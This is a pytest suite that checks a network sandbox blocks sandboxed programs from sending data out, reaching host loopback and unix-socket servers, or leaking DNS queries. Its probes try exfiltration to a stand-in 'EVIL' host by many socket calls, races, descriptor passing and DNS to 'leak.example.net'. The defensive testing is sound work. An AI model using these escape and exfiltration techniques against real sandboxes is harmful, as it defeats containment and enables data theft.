# SPDX-License-Identifier: Apache-2.0
"""Where user namespaces, or network namespaces alone, are denied the guard makes the sockets. No way to send a byte leads past it, whatever other threads do meanwhile, and
no process of the host connects to a server inside (rung_attacks.c)."""

import pathlib
import shutil
import subprocess
import tempfile
import time

import pytest

HERE = pathlib.Path(__file__).resolve().parent
EVIL = ("11.0.0.11", "80")
SENDS = ["connect", "sendto", "sendmsg", "sendmmsg", "fastopen", "reconnect", "accepted", "uring", "address-race", "descriptor-race"]
MAKES = ["udp", "udp6", "families", "options"]


@pytest.fixture(scope="module")
def program():
    top = pathlib.Path(tempfile.mkdtemp(prefix="bawn-attack.", dir="/usr/local/lib"))
    top.chmod(0o755)
    subprocess.run(["gcc", "-O1", "-pthread", "-o", top / "rung_attacks", HERE / "rung_attacks.c"], check=True)
    yield top / "rung_attacks"
    shutil.rmtree(top)


@pytest.fixture(params=["landlock", "shared-net"])
def rung(request):
    return request.param


@pytest.fixture
def runner(user_runner):
    return user_runner


@pytest.mark.parametrize("name", SENDS)
def test_no_byte_leaves(net, program, name):
    outside = net.outside(program, name, *EVIL)
    if outside.rc and name == "uring":
        pytest.skip("needs a kernel with io_uring")
    assert outside.rc == 0, f"it does not work without the sandbox: {outside}"
    while not net.hits(to="11.0.0.11"):  # the byte is on its way
        time.sleep(0.05)
    assert net.outside("curl", "-s", "http://11.0.0.11/last").rc == 0
    while not net.hits(to="11.0.0.11", line="GET /last HTTP/1.1"):  # nothing of it comes later
        time.sleep(0.05)
    net.forget()
    r = net.sandbox(program, name, *EVIL, allow=["ok.example.com"])
    assert r.rc == 1, r
    assert net.hits() == [], r


@pytest.mark.parametrize("name", MAKES)
def test_no_other_socket_and_no_option(net, program, name):
    assert net.outside(program, name, *EVIL).rc == 0
    r = net.sandbox(program, name, *EVIL)
    assert r.rc == 1 and b" was " not in r.err, r


CONNECT = """
import socket, sys
s = socket.socket()
s.settimeout(2)
try:
    s.connect((sys.argv[1] if sys.argv[1] != "0.0.0.0" else "127.0.0.1", int(sys.argv[2])))
except OSError as e:
    sys.exit(f"no: {e}")
"""


def serve(net, program, name, sandboxed):
    command = net.command(program, name, *EVIL) if sandboxed else [program, name, *EVIL]
    p = net.popen(*command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    return p, p.stdout.readline().decode().split()


@pytest.mark.parametrize("name", ["listen", "listen-bare"])
def test_no_process_of_the_host_reaches_a_server_inside(net, program, name):
    p, where = serve(net, program, name, sandboxed=False)
    assert net.outside("/usr/bin/python3", "-c", CONNECT, *where).rc == 0
    p.communicate(b"\n")
    assert p.returncode == 0, "it does not work without the sandbox"
    p, where = serve(net, program, name, sandboxed=True)
    assert where and where[0].startswith("127."), where
    same = net.outside("/usr/bin/python3", "-c", CONNECT, *where)
    root = subprocess.run(["nsenter", f"--net=/proc/{net.world.outer}/ns/net", "--", "/usr/bin/python3", "-c", CONNECT, *where], capture_output=True)
    inside = net.python(CONNECT.replace("sys.argv[1]", repr(where[0])).replace("sys.argv[2]", repr(where[1])))
    p.communicate(b"\n")
    assert same.rc == 1 and root.returncode == 1 and inside.rc == 1, (same, root, inside)
    assert p.returncode == 1, "a connection came"


def test_the_host_cannot_be_reached(net):
    """Servers on the host's loopback, by TCP and by unix sockets in the workspace, /tmp and /run, and by abstract names."""
    folder = net.runner.workspace
    script = f"""
import os, socket, sys
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen()
l6 = socket.socket(socket.AF_INET6); l6.bind(("::1", 0)); l6.listen()
u = socket.socket(socket.AF_UNIX); u.bind({str(folder)!r} + "/host.sock"); u.listen()
a = socket.socket(socket.AF_UNIX); a.bind("\\0bawn-test-%d" % os.getpid()); a.listen()
print(l.getsockname()[1], l6.getsockname()[1], os.getpid(), flush=True)
sys.stdin.read()
"""
    host = net.popen("/usr/bin/python3", "-c", script, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    port, port6, pid = map(int, host.stdout.readline().split())
    probe = f"""
import socket, sys
bad = []
for family, address in ((2, ("127.0.0.1", {port})), (10, ("::1", {port6})), (2, ("127.0.0.2", {port})), (10, ("::ffff:127.0.0.1", {port})), (2, ("0.0.0.0", {port})),
                        (1, {str(folder)!r} + "/host.sock"), (1, "host.sock"), (1, "/proc/self/cwd/host.sock"), (1, "/proc/{pid}/cwd/host.sock"), (1, "\\0bawn-test-{pid}")):
    s = socket.socket(family)
    try:
        s.connect(address)
        bad.append(address)
    except OSError as e:
        pass
print(bad)
sys.exit(0 if bad else 1)
"""
    assert net.outside("/usr/bin/python3", "-c", probe).rc == 0
    r = net.python(probe)
    host.communicate(b"")
    assert r.rc == 1 and r.out == b"[]\n", r


def test_a_socket_that_was_moved_into_place_is_not_ones_own(net):
    """A unix socket of the host's that lies in the workspace does not become one that was bound inside."""
    folder = net.runner.workspace
    host = net.popen("/usr/bin/python3", "-c", f"""
import socket, sys
u = socket.socket(socket.AF_UNIX); u.bind({str(folder)!r} + "/host.sock"); u.listen(); print("up", flush=True); sys.stdin.read()""",
                     stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    host.stdout.readline()
    r = net.python("""
import os, socket, sys
own = socket.socket(socket.AF_UNIX); own.bind("own.sock"); own.listen()
c = socket.socket(socket.AF_UNIX); c.connect("own.sock")
os.rename("host.sock", "own.sock")
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("own.sock")
except OSError as e:
    sys.exit(str(e.errno))
""")
    host.communicate(b"")
    assert r.rc == 1, r


def test_servers_come_and_go(net):
    """A port is free again when its server is gone, however it went; connections end with their owners."""
    r = net.python("""
import os, signal, socket, subprocess, sys
server = "import socket,sys; s=socket.socket(); s.bind(('127.0.0.1',4321)); s.listen(); print('up',flush=True); c,_=s.accept(); c.sendall(b'x'); sys.stdin.read()"
for i in range(3):
    p = subprocess.Popen([sys.executable, "-c", server], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert p.stdout.readline() == b"up\\n"
    c = socket.create_connection(("localhost", 4321))
    assert c.recv(1) == b"x"
    p.send_signal(signal.SIGKILL); p.wait()
    assert c.recv(1) == b"", "the connection did not end"
    try:
        socket.create_connection(("127.0.0.1", 4321)); sys.exit("a dead server answers")
    except ConnectionRefusedError: pass
many = [socket.socket() for _ in range(300)]
del many
for i in range(1000): socket.socket().close()
b = socket.socket(); b.bind(("0.0.0.0", 4322)); b.close()
b = socket.socket(); b.bind(("0.0.0.0", 4322)); b.listen(); b.listen()
""")
    assert r.rc == 0, r


UDP = """
import array, os, socket, struct, sys
way, server, name = sys.argv[1:]
query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + struct.pack(">BHH", 0, 1, 1)
six = way == "mapped"
s = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM)
to, other = ("::ffff:" + server if six else server, 53), ("203.0.113.9", 53)
s.settimeout(10)
if way in ("connect", "mapped"):
    s.connect(to); s.send(query)
elif way == "sendto":
    s.sendto(query, to)
elif way == "connected, sendto another":
    s.connect(other); s.sendto(query, to)
elif way == "connected, sendmsg another":
    s.connect(other); s.sendmsg([query], [], 0, to)
elif way == "connected, write":
    s.connect(to); os.write(s.fileno(), query)
elif way == "reconnect":
    s.connect(other); s.connect(to); s.send(query)
print(s.recv(2000)[-4:].hex())
"""
WAYS = ["connect", "mapped", "sendto", "connected, sendto another", "connected, sendmsg another", "connected, write", "reconnect"]


@pytest.mark.parametrize("way", WAYS)
def test_no_datagram_leaves(net, way):
    """Claim: a socket for UDP leads to the gate's name server, by port 53 of any address, or nowhere."""
    server = next(line.split()[1] for line in (net.world.folder / "resolv.conf").read_text().splitlines() if line.startswith("nameserver"))
    outside = net.outside("/usr/bin/python3", "-c", UDP, way, server, "leak.example.net")
    assert any("leak.example.net" in q for q in net.queries()), f"it does not work without the sandbox: {outside}"
    net.forget()
    r = net.sandbox("/usr/bin/python3", "-c", UDP, way, server, "leak.example.net", allow=["ok.example.com"])
    answers = r.rc == 0 and r.out.startswith(b"c6")  # an address of the gate's own, 198.18.0.0/15
    assert answers == (way not in ("sendto", "reconnect")), r
    assert net.queries() == [] and net.hits() == []


OTHER_UDP = """
import array, os, socket
def refused(what, call):
    try: call(); print("worked:", what)
    except OSError: pass
def udp(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in (1, 80, 123, 443, 5353): refused(port, lambda: udp().connect(("11.0.0.11", port)))
refused("bind", lambda: udp().bind(("0.0.0.0", 0)))
refused("bind 53", lambda: udp().bind(("127.0.0.1", 53)))
refused("listen", lambda: udp().listen())
refused("multicast", lambda: udp().sendto(b"x", ("224.0.0.251", 5353)))
refused("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
s = udp(); s.settimeout(10); s.connect(("11.0.0.11", 53))
refused("a second connect", lambda: s.connect(("11.0.0.11", 80)))
s.sendmsg([b"no question"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1]))])  # descriptors go nowhere
try: s.recv(100)
except OSError: pass
s = udp(); s.connect(("11.0.0.11", 53)); refused("too long", lambda: (s.send(bytes(100000)), s.settimeout(10), s.recv(1) or socket.socket(99)))
for i in range(300): udp().connect(("11.0.0.11", 53))
print("tried")
"""


def test_nothing_else_by_udp(net):
    r = net.python(OTHER_UDP, allow=["ok.example.com"])
    assert r.rc == 0 and r.out == b"tried\n", r
    assert net.hits() == []
    assert b"200" in net.sandbox("curl", "-sS", "-w", "%{http_code}", "http://ok.example.com/", allow=["ok.example.com"]).out


MANY_NAMES = """
import socket, struct
query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x for x in b"ok.example.com".split(b".")) + struct.pack(">BHH", 0, 1, 1)
all = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(200)]
for s in all: s.connect(("11.0.0.11", 53))
for s in all: s.settimeout(20); s.send(query)
print({s.recv(2000)[-4:-3].hex() for s in all})
for s in all: s.close()
tcp = [socket.create_connection(("11.0.0.11", 53), 20) for _ in range(100)]
for s in tcp: s.sendall(struct.pack(">H", len(query)) + query)
print({s.recv(2000)[-4:-3].hex() for s in tcp})
"""


def test_many_names_are_looked_up_at_once(net):
    """A program that looks up a hundred names side by side has a socket for each."""
    r = net.python(MANY_NAMES, allow=["ok.example.com"])
    assert r.rc == 0 and r.out == b"{'c6'}\n" * 2, r


GO = r"""
package main
import ("context"; "fmt"; "io"; "net"; "os"; "time")
func main() {
    c, err := (&net.Dialer{Timeout: 20 * time.Second}).DialContext(context.Background(), "tcp", os.Args[1] + ":80")
    if err != nil { fmt.Println(err); os.Exit(1) }
    fmt.Fprintf(c, "GET / HTTP/1.0\r\nHost: %s\r\n\r\n", os.Args[1])
    b, _ := io.ReadAll(c)
    fmt.Println(string(b[:12]))
}
"""


@pytest.fixture(scope="module")
def go_program():
    if not shutil.which("go"):
        pytest.skip("needs the program go")
    top = pathlib.Path(tempfile.mkdtemp(prefix="bawn-go.", dir="/usr/local/lib"))
    top.chmod(0o755)
    (top / "main.go").write_text(GO)
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(top), "CGO_ENABLED": "0", "GOCACHE": str(top / "cache"), "GO111MODULE": "off"}
    subprocess.run(["go", "build", "-o", top / "dial", top / "main.go"], check=True, env=env, cwd=top)
    yield top / "dial"
    shutil.rmtree(top)


def test_a_resolver_of_its_own(net, go_program):
    """A static Go program asks the name servers of /etc/resolv.conf itself, by UDP, and knows no proxy."""
    r = net.sandbox(go_program, "ok.example.com", allow=["ok.example.com"])
    assert r.rc == 0 and b"200" in r.out, r
    r = net.sandbox(go_program, "evil.example.net", allow=["ok.example.com"])
    assert b"200" not in r.out and not any("evil" in q for q in net.queries()), r
